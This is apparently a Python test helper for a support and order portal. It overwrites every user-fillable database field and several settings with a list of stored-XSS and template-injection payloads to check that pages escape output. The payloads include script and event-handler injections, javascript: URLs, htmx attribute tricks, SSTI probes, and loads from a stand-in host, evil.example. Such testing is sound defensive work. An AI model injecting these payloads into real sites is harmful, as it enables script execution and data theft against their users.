"""What an attacker types, and where it is put: every text that a person can fill."""

from itertools import cycle
from typing import Any

from sqlalchemy import select
from sqlalchemy.orm import Session

from portal.accounts.models import Screen, Staff
from portal.catalog.models import CannedSolution, Service, Topic
from portal.hours.models import DayOverrideRow
from portal.orders.models import Contact, Order
from portal.payments.models import Payment, Refund
from portal.privacy.models import DataBreach
from portal.settings.models import Setting
from portal.support.customer_models import AttentionMessage, ErrandEntry, Rating
from portal.support.models import (
    AttentionEntry,
    AttentionNote,
    AttentionPause,
    Draft,
)

# Whatever runs calls this; the name is also how a page shows that it has the text.
CALL = "marca()"
_SRC = "https://evil.example/x"
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'" autofocus onfocus={CALL} x="',
    f"' autofocus onfocus={CALL} x='",
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src='javascript:parent.{CALL}'></iframe>",
    f"<a href='javascript:{CALL}' id=trampa>{CALL}</a>",
    f"javascript:{CALL}//https://",
    f"JaVaScRiPt&colon;{CALL}",
    f"<form action='javascript:{CALL}'><button>{CALL}</button></form>",
    f"<math><mi xlink:href='javascript:{CALL}'>{CALL}</mi></math>",
    f"<object data='javascript:{CALL}'></object>",
    f"<base href='{_SRC}/'><!-- {CALL} -->",
    f"<meta http-equiv=refresh content='0;url={_SRC}?{CALL}'>",
    f"<link rel=stylesheet href='{_SRC}?{CALL}'>",
    f"<style>@import '{_SRC}?{CALL}';</style>",
    f"<div hx-get='{_SRC}?{CALL}' hx-trigger='load'></div>",
    f"<div data-hx-get='{_SRC}?{CALL}' data-hx-trigger='load'></div>",
    f"<div hx-on:load='{CALL}' hx-on::before-request='{CALL}'></div>",
    f"<b hx-on:click='{CALL}' hx-trigger='every 100ms' hx-post='/salir'>x</b>",
    f"<p hx-vals='js:{{a: {CALL}}}' hx-get='/' hx-trigger='load'>{CALL}</p>",
    f"<template hx-swap-oob='outerHTML:body'><script>{CALL}</script></template>",
    f"<hx-partial hx-target='body'><script>{CALL}</script></hx-partial>",
    "{{ 'marca()' ~ 'da' }} {{ 7*7 }} {{ config }} {{ ''.__class__.__mro__ }}",
    "{% for a in [1] %}marca(){% endfor %}{{ self }} ${marca()} <%= marca() %>",
    f"\u202e{CALL}\u202c <bdo dir=rtl>{CALL}</bdo>",
)
EVERYTHING = "\n".join(PAYLOADS)
# Of each: what people type there, and whether it may be long.
FIELDS: tuple[tuple[Any, str, bool], ...] = (
    (Contact, "name", False),
    (Contact, "email", False),
    (Order, "problem", True),
    (Order, "topic_title", False),
    (Order, "service_name", False),
    *((Order, f"tax_{name}", False) for name in ("name", "activity", "address")),
    *((Order, name, False) for name in ("tax_commune", "address", "commune")),
    (Payment, "detail", False),
    (Refund, "reason", False),
    (Refund, "detail", False),
    (AttentionEntry, "text", True),
    (AttentionNote, "text", True),
    (AttentionPause, "reason", False),
    (AttentionMessage, "text", True),
    (ErrandEntry, "text", True),
    (Rating, "comment", True),
    (Draft, "text", True),
    (Staff, "name", False),
    (Screen, "name", False),
    (Service, "name", False),
    (Service, "summary", False),
    (Service, "details", True),
    (Topic, "title", False),
    (Topic, "answer", True),
    (CannedSolution, "title", False),
    (CannedSolution, "text", True),
    (DayOverrideRow, "note", False),
    (DataBreach, "occurred", False),
    *((DataBreach, name, True) for name in ("cause", "affected", "effects")),
    *((DataBreach, name, True) for name in ("measures", "untold_reason")),
)
SETTINGS = (
    *("business_name", "product_name", "business_address", "business_email"),
    *("legal_representative", "support_email", "remote_tool_name", "remote_tool_url"),
    "sales_stopped_message",
)


def poison(session: Session) -> int:
    """Write the corpus over every such text of the database; how many texts.

    Past the gate for input on purpose: what is shown must be safe by itself.
    """
    turn, written = cycle(PAYLOADS), 0
    for model, column, is_long in FIELDS:
        for row in session.scalars(select(model)):
            setattr(row, column, EVERYTHING if is_long else next(turn))
            written += 1
    for setting in session.scalars(select(Setting).where(Setting.name.in_(SETTINGS))):
        setting.value = next(turn)
        written += 1
    session.commit()
    return written
